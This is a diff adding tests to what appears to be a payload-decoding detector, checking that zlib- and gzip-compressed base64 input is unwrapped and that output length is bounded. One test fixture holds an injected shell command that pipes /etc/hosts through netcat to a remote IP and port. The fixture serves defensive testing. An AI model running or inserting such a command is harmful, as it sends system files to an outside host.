@@ -1,7 +1,9 @@
 """The decoding chain undoes each wrapping, in any order, and never without bound."""
 
 import base64
+import gzip
 import html
+import zlib
 
 import pytest
 from hypothesis import example, given
@@ -56,6 +58,14 @@ def test_each_wrapping(text: str, plain: str, steps: tuple[str, ...]) -> None:
 )
 def test_digests_and_numbers_say_nothing(text: str) -> None:
     assert decode(text) == ()
+
+
+def test_what_is_compressed_is_seen_up_to_the_length_that_it_came_in() -> None:
+    said = "; cat /etc/hosts | nc 10.0.0.1 4444"
+    for data in (zlib.compress(said.encode()), gzip.compress(said.encode(), mtime=0)):
+        assert decode(base64.b64encode(data).decode())[-1].text == said
+    wide = base64.b64encode(zlib.compress(b"a" * 100_000)).decode()
+    assert len(decode(wide)[-1].text) == len(wide)
 
 
 def test_an_object_is_told_by_its_beginning_however_little_text_is_in_it() -> None:
